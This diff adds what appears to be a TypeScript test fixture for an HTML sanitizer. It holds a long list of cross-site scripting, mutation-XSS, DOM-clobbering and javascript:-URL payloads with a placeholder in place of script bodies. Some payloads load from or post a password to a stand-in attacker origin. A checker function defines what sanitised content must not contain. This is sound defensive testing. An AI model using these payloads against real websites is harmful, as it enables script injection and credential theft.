@@ -1,0 +1,153 @@
+/** An attacker's origin. */
+export const MARK = "https://hostile.example";
+
+/** HTML written by an attacker, each as a text of a gateway. `✗` is a call that must never run. */
+export const payloads: readonly string[] = [
+  // Handlers, on elements that load, fail, animate, scroll, toggle or take the focus.
+  "<img src=x onerror=✗>",
+  "<IMG SRC=x OnErRoR=✗>",
+  "<img/src=x/onerror=✗>",
+  "<img src=x onerror\n=\n✗>",
+  "<img src=x\u000conerror=✗>",
+  "<img src='x' alt='`' onerror=✗ alt2='`'>",
+  '<img src="x` `<script>✗</script>"` `>',
+  "<img srcset='x 1x' onerror=✗>",
+  "<picture><source srcset=x><img onerror=✗></picture>",
+  "<image src=x onerror=✗>",
+  "<video src=x onerror=✗></video>",
+  "<video><source src=x onerror=✗></video>",
+  "<video poster=x autoplay onloadstart=✗ src=/m/></video>",
+  "<audio src=x onerror=✗></audio>",
+  "<body onload=✗>",
+  "<body onpageshow=✗>",
+  "<svg onload=✗>",
+  "<svg/onload=✗//",
+  "<svg><animate onbegin=✗ attributeName=x dur=1s></svg>",
+  "<svg><set onbegin=✗ attributeName=x></svg>",
+  "<svg><animate attributeName=href values=javascript:✗ /><a href=x><text y=20>tap</text></a></svg>",
+  "<svg><a xlink:href=javascript:✗><text y=20>tap</text></a></svg>",
+  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>✗</script></svg>#x'></svg>",
+  "<svg><script>✗</script></svg>",
+  "<svg><script href=data:text/javascript,✗ /></svg>",
+  "<svg><foreignObject><iframe srcdoc='<script>parent.✗</script>'></foreignObject></svg>",
+  "<svg><style><img src=x onerror=✗></style></svg>",
+  "<svg></p><style><a id='</style><img src=x onerror=✗>'>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=✗></style></mglyph></table></mtext></math>",
+  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=✗>'>",
+  "<math><annotation-xml encoding='text/html'><img src=x onerror=✗></annotation-xml></math>",
+  "<math href=javascript:✗>tap</math>",
+  "<math><maction actiontype='statusline#x' xlink:href=javascript:✗>tap</maction></math>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=✗>",
+  "<details open ontoggle=✗>x</details>",
+  "<details><summary onclick=✗>tap</summary></details>",
+  "<marquee onstart=✗>x</marquee>",
+  "<p style='animation: spin 1s' onanimationstart=✗>x</p>",
+  "<p style='transition: 1s' ontransitionend=✗ tabindex=0>x</p>",
+  "<p tabindex=0 autofocus onfocus=✗>x</p>",
+  "<p contenteditable autofocus onfocus=✗ onbeforeinput=✗>x</p>",
+  "<p onpointerover=✗ onclick=✗ onmousedown=✗>tap</p>",
+  "<p popover onbeforetoggle=✗ id=pop>x</p>",
+  "<button popovertarget=pop>tap</button><div popover id=pop onbeforetoggle=✗>x</div>",
+  "<p oncontentvisibilityautostatechange=✗ style='content-visibility:auto'>x</p>",
+  "<xss onscrollend=✗ onclick=✗ style='overflow:auto'>tap</xss>",
+  "<slot onslotchange=✗></slot>",
+  "<dialog open oncancel=✗ onclose=✗>tap</dialog>",
+  "<template><img src=x onerror=✗></template>",
+  "<template shadowrootmode=open><img src=x onerror=✗></template>",
+  "<div><template shadowrootmode=open><script>✗</script></template></div>",
+  // Scripts, and elements that load documents.
+  "<script>✗</script>",
+  "<script src=data:text/javascript,✗></script>",
+  "<script type=module>✗</script>",
+  '<script type=importmap>{"imports":{"x":"data:text/javascript,✗"}}</script>',
+  `<script type=speculationrules>{"prefetch":[{"urls":["${MARK}/prefetch"]}]}</script>`,
+  "<scr<script>ipt>✗</scr</script>ipt>",
+  "<script\n>✗</script\n>",
+  "<<script>✗//<</script>",
+  "<noscript><p title='</noscript><img src=x onerror=✗>'></noscript>",
+  "<noembed><p title='</noembed><img src=x onerror=✗>'></noembed>",
+  "<noframes><p title='</noframes><img src=x onerror=✗>'></noframes>",
+  "<xmp><p title='</xmp><img src=x onerror=✗>'></xmp>",
+  "<plaintext><img src=x onerror=✗>",
+  "<textarea><p title='</textarea><img src=x onerror=✗>'></textarea>",
+  "<title><p title='</title><img src=x onerror=✗>'></title>",
+  "<style><p title='</style><img src=x onerror=✗>'></style>",
+  "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=✗>'>",
+  "<!--><img src=x onerror=✗>-->",
+  "<!--!><img src=x onerror=✗>--!>",
+  "<![CDATA[<img src=x onerror=✗>]]>",
+  "<?xml-stylesheet href='javascript:✗'?><img src=x onerror=✗>",
+  "<?xml ><img src=x onerror=✗>?>",
+  "<iframe src=javascript:parent.✗></iframe>",
+  "<iframe srcdoc='<script>parent.✗</script>'></iframe>",
+  "<frameset onload=✗><frame src=javascript:parent.✗></frameset>",
+  "<object data=javascript:✗></object>",
+  "<object data='data:text/html,<script>parent.✗</script>'></object>",
+  "<embed src=javascript:✗>",
+  "<applet code=x onerror=✗></applet>",
+  `<portal src='${MARK}/portal'></portal>`,
+  `<fencedframe></fencedframe><iframe src='${MARK}/frame'></iframe>`,
+  `<link rel=stylesheet href='${MARK}/style.css'>`,
+  "<link rel=import href=data:text/html,<script>✗</script>>",
+  `<link rel=manifest href='${MARK}/manifest'>`,
+  `<style>@import '${MARK}/style.css'; body { display: none }</style>`,
+  `<base href='${MARK}/'><a href='m/home'>tap</a>`,
+  `<meta http-equiv=refresh content='0;url=${MARK}/refresh'>`,
+  "<meta http-equiv=refresh content='0;url=javascript:✗'>",
+  "<meta http-equiv=content-security-policy content=\"default-src 'none'\">",
+  "<meta name=referrer content=unsafe-url><meta name=theme-color content=red>",
+  "<html onclick=✗ dir=rtl lang=xx><p>x</p></html>",
+  // Addresses.
+  "<a href=javascript:✗>tap</a>",
+  "<a href=JaVaScRiPt:✗>tap</a>",
+  "<a href=' javascript:✗'>tap</a>",
+  "<a href='java\tscript:✗'>tap</a>",
+  "<a href='java\nscript:✗'>tap</a>",
+  "<a href='&#106;avascript:✗'>tap</a>",
+  "<a href='javascript&colon;✗'>tap</a>",
+  "<a href='\u0001javascript:✗'>tap</a>",
+  "<a href='java\u0000script:✗'>tap</a>",
+  "<a href='\u00a0javascript:✗'>tap</a>",
+  "<a href=vbscript:✗>tap</a>",
+  "<a href='data:text/html,<script>opener.✗</script>'>tap</a>",
+  `<a href='blob:${MARK}/x'>tap</a>`,
+  `<a href='view-source:${MARK}'>tap</a>`,
+  `<a href='filesystem:${MARK}/temporary/x'>tap</a>`,
+  "<a href='intent://x#Intent;scheme=javascript;end'>tap</a>",
+  "<map name=m><area shape=rect coords=0,0,99,99 href=javascript:✗></map><img usemap=#m src=/m/icons/icon-192.png width=99 height=99>",
+  `<a href='#' ping='${MARK}/ping'>tap</a>`,
+  "<form action=javascript:✗><button>tap</button></form>",
+  `<form action='${MARK}/form'><input name=password type=password autofocus><button>tap</button></form>`,
+  "<button formaction=javascript:✗>tap</button><input type=image src=x formaction=javascript:✗ onerror=✗>",
+  "<isindex type=image src=x onerror=✗>",
+  // Names that would shadow the document's own, and the site's.
+  "<img name=cookie><img name=body><img name=getElementById><img name=createElement>",
+  "<form id=documentElement><input name=attributes><input name=parentNode></form>",
+  "<a id=livery name=livery href=x><a id=livery name=record href=javascript:✗></a></a>",
+  "<div id=app aria-busy=true></div><div id=splash></div><div id=root></div>",
+  "<p is=x-y slot=x part=x>x</p>",
+  // Styles.
+  "<p style='background:url(javascript:✗)'>x</p>",
+  `<p style='behavior:url(#default#time2);-moz-binding:url(${MARK}/x)'>x</p>`,
+  "<p style='width:expression(✗)'>x</p>",
+  '<p style="x:</style><img src=x onerror=✗>">x</p>',
+];
+
+/** What content must not contain once it is safe, as text. */
+export function faultsOf(content: Element): readonly string[] {
+  const faults: string[] = [];
+  const forbidden =
+    /^(script|style|form|input|button|textarea|select|iframe|frame|object|embed|link|meta|base|template|svg|math|title|portal|noscript|slot)$/i;
+  for (const element of content.querySelectorAll("*")) {
+    if (forbidden.test(element.nodeName)) faults.push(`element ${element.nodeName}`);
+    for (const { name, value } of element.attributes) {
+      const isScript = /^\s*(javascript|vbscript|data|blob|filesystem|intent|view-source):/i.test(
+        value.replaceAll(/[^!-~\ufffd]/g, ""),
+      );
+      if (name.startsWith("on") || (isScript && name !== "style")) faults.push(`${element.nodeName} ${name}=${value}`);
+    }
+    for (const name of ["id", "name", "class", "slot"])
+      if (element.hasAttribute(name)) faults.push(`${element.nodeName} with ${name}`);
+  }
+  return faults;
+}
